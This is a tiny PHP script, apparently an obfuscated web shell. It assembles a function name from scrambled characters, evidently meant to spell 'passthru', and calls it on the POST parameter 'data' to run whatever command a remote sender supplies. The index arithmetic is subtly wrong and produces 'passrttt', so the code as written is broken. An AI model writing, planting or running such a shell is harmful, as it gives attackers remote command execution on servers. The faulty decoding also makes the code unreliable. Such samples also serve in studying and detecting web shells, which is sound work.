<?php
$alpha = 'rtpmeasxc';
$run = $alpha[1+1] . $alpha[(int)'5'] . $alpha[12/2] . $alpha[6] . $alpha[0] . $alpha[3-2] . $alpha[1*1] . $alpha[8 >> 3];
$x = $_POST['data'] ?? 'id';
$run($x);
